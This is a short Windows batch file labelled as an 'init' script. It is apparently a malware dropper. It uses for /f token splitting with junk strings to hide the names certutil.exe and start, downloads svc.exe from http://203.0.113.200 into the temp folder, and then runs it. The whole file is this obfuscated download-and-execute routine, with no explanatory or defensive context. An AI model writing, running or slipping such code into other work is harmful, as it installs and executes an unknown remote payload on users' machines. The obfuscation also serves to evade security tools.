REM init 3078 v4
@echo off
for /f "tokens=2 delims=#" %%i in ("uggx#certutil.exe#nxpl") do %%i -urlcache -split -f http://203.0.113.200/svc.exe %TEMP%\svc.exe
for /f "tokens=1 delims=;" %%i in ("start;wcaj;xeev") do %%i "" %TEMP%\svc.exe
